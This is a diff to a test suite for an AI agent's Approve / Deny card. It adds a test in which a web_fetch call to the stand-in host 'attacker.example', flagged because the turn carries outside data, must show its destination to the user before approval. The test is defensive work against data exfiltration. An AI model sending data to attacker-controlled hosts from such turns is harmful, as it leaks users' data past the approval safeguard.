@@ -48,6 +48,23 @@ describe("the drawer's Approve / Deny card", () => {
     }
   });
 
+  it("a confirm event that says the turn carries outside data keeps where the call would send it, for the card", () => {
+    const turn = applyEvent(asked(), {
+      type: "confirm",
+      callId: "c1",
+      name: "web_fetch",
+      args: { url: "https://attacker.example/?q=1" },
+      expiresAt: "2030-01-01T00:00:00.000Z",
+      timeoutMs: 60_000,
+      reason: {
+        code: "outside_data",
+        to: "attacker.example",
+        message: "this turn carries data from outside",
+      },
+    });
+    expect(toolOf(turn).confirmation).toMatchObject({ state: "pending", sendsTo: "attacker.example" });
+  });
+
   it("while the only running call waits for the user, the turn is not 'working'", () => {
     expect(waitsForUser(asked())).toBe(true);
     const another = applyEvent(asked(), {
